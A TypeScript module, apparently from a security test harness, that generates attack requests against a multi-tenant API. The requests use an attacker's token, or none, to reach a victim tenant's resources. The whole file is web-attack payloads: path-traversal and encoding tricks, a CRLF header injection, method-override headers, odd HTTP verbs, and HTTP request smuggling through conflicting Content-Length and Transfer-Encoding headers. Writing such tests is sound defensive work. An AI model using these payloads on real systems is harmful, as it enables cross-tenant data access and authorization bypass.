import { itemId } from '../action';
import { type Attack, bearer, draftOf, SURFACES, type Surface, type Technique } from '../technique';

/** Paths that a client would tidy up before it sends them. `way` is what the owner's request has. */
type Trick = (way: string, attack: Attack) => string;

const inner = (way: string): string => way.slice(1);

const TRICKS: Record<string, Trick> = {
  'two slashes before': (way) => `/${way}`,
  'two slashes within': (way) => way.replace(/(?!^)\/|$/, '//'),
  'a dot': (way) => `/.${way}`,
  'up from nowhere': (way) => `/../..${way}`,
  'up from something': (way) => `/nothing/..${way}`,
  'up from health': (way, { action }) => `/${action.service}/health/../..${way}`,
  "up from the attacker's item": (way, { action, attacker }) =>
    `/${action.service}/${itemId(action.service, attacker)}/../..${way}`,
  'up, escaped dots': (way) => `/nothing/%2e%2e${way}`,
  'up, escaped slash': (way) => `/orders/..%2f${inner(way)}`,
  'up, all escaped': (way) => `/orders/%2e%2e%2f${inner(way)}`,
  'up, twice escaped': (way) => `/orders/%252e%252e%252f${inner(way)}`,
  'up, overlong': (way) => `/orders/..%c0%af${inner(way)}`,
  'up, a wide slash': (way) => `/orders/..%ef%bc%8f${inner(way)}`,
  'up after a semicolon': (way) => `/orders/..;${way}`,
  'a backslash': (way) => `/orders/..\\${inner(way)}`,
  'an escaped backslash': (way) => `/orders/..%5c${inner(way)}`,
  'into another service': (way, { action }) =>
    `/${action.service === 'orders' ? 'products' : 'orders'}/..%2f${inner(way)}`,
  'a parameter of the path': (way) => way.replace(/^\/(\w+)/, '/$1;tenant=x'),
  'a semicolon after': (way) => `${way};x=y`,
  'a dot after': (way) => `${way}.`,
  'a slash after': (way) => `${way}/`,
  'a slash and a dot after': (way) => `${way}/.`,
  'an ending': (way) => `${way}.json`,
  'a null after': (way) => `${way}%00`,
  'a blank after': (way) => `${way}%20`,
  'a line break after': (way) => `${way}%0d%0aHost:%20x`,
  'a mark after': (way) => `${way}%23`,
  'a question after': (way) => `${way}%3f`,
  'in capitals': (way) => way.replace(/^\/\w+/, (name) => name.toUpperCase()),
  'a letter escaped': (way) => `/%${way.charCodeAt(1).toString(16)}${way.slice(2)}`,
  'a letter twice escaped': (way) => `/%25${way.charCodeAt(1).toString(16)}${way.slice(2)}`,
  'a tenant before': (way, { victim }) => `/${victim.tenantPath}${way}`,
  'the stage again': (way) => `/prod${way}`,
  'a variable': (way) => way.replace(/[^/]*$/, '{proxy+}'),
};

const AS: Record<string, (attack: Attack) => string | undefined> = {
  "the attacker's token": ({ attacker }) => attacker.idToken,
  'no token': () => undefined,
};

const PATHS_TRICKED: Technique[] = Object.entries(TRICKS).flatMap(([name, trick]) =>
  Object.entries(AS).map(
    ([who, token]): Technique => ({
      kind: 'path trick',
      name: `${name}, ${who}`,
      surfaces: SURFACES,
      control: 'plain',
      request: (attack) => {
        const draft = draftOf(attack, token(attack));
        return { ...draft, path: trick(draft.path, attack) };
      },
    }),
  ),
);

const OVERRIDES = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'];

const changing = ({ action }: Pick<Attack, 'action'>): boolean =>
  action.verb === 'replace' || action.verb === 'delete';

/** A method in a header or the query, under one that may pass. */
const OVERRIDDEN: Technique[] = ['GET', 'POST', 'OPTIONS', 'PATCH'].flatMap((method) =>
  [...OVERRIDES, '_method'].map(
    (by): Technique => ({
      kind: 'method override',
      name: `${method} by ${by}`,
      surfaces: SURFACES,
      control: 'plain',
      fits: changing,
      request: (attack) => {
        const draft = draftOf(attack, attack.attacker.idToken);
        return by === '_method'
          ? { ...draft, method, path: `${draft.path}?_method=${draft.method}` }
          : { ...draft, method, headers: [...draft.headers, [by, draft.method]] };
      },
    }),
  ),
);

const METHODS = [
  'HEAD',
  'PATCH',
  'TRACE',
  'OPTIONS',
  'PROPFIND',
  'LINK',
  'get',
  'Delete',
  'MOVE',
  'COPY',
  'QUERY',
];

const ODD_METHODS: Technique[] = METHODS.flatMap((method) =>
  Object.entries(AS).map(
    ([who, token]): Technique => ({
      kind: 'odd method',
      name: `${method}, ${who}`,
      surfaces: SURFACES,
      control: 'plain',
      fits: ({ action }) => action.ofItem,
      request: (attack) => ({ ...draftOf(attack, token(attack)), method }),
    }),
  ),
);

/** A second request hidden in the body of a first, where two servers may disagree on where that ends. */
const SMUGGLED: Technique[] = (
  [
    [
      'length before chunks',
      (hidden) => ({ 'Content-Length': String(hidden.length + 5), 'Transfer-Encoding': 'chunked' }),
    ],
    ['an odd encoding', () => ({ 'Content-Length': '0', 'Transfer-Encoding': 'xchunked' })],
    ['a second encoding', () => ({ 'Transfer-Encoding': 'chunked, identity', 'Content-Length': '0' })],
    ['a length of nothing', () => ({ 'Content-Length': '0' })],
  ] as [string, (hidden: string) => Record<string, string>][]
).map(([name, framing]) => ({
  kind: 'smuggled request',
  name,
  surfaces: ['gateway', 'balancer', 'task'] satisfies Surface[],
  control: 'plain',
  fits: ({ action }) => action.verb !== 'create',
  request: (attack) => {
    const { method, path, body = '' } = draftOf(attack);
    const { attacker, victim, action, surface } = attack;
    const prefix = surface === 'task' ? '' : `${new URL(victim.client.tenant.apiGatewayUrl).pathname}`;
    const hidden =
      `${method} ${prefix}${path} HTTP/1.1\r\nHost: x\r\ntenantPath: ${victim.tenantPath}\r\n` +
      `Authorization: Bearer ${attacker.idToken}\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
    return {
      method: 'POST',
      path: `/${action.service}`,
      headers: [
        bearer(attacker.idToken),
        ['Content-Type', 'application/json'],
        ...Object.entries(framing(hidden)),
      ],
      trailing: name === 'a length of nothing' ? hidden : `0\r\n\r\n${hidden}`,
    };
  },
}));

export const PATHS: readonly Technique[] = [...PATHS_TRICKED, ...OVERRIDDEN, ...ODD_METHODS, ...SMUGGLED];
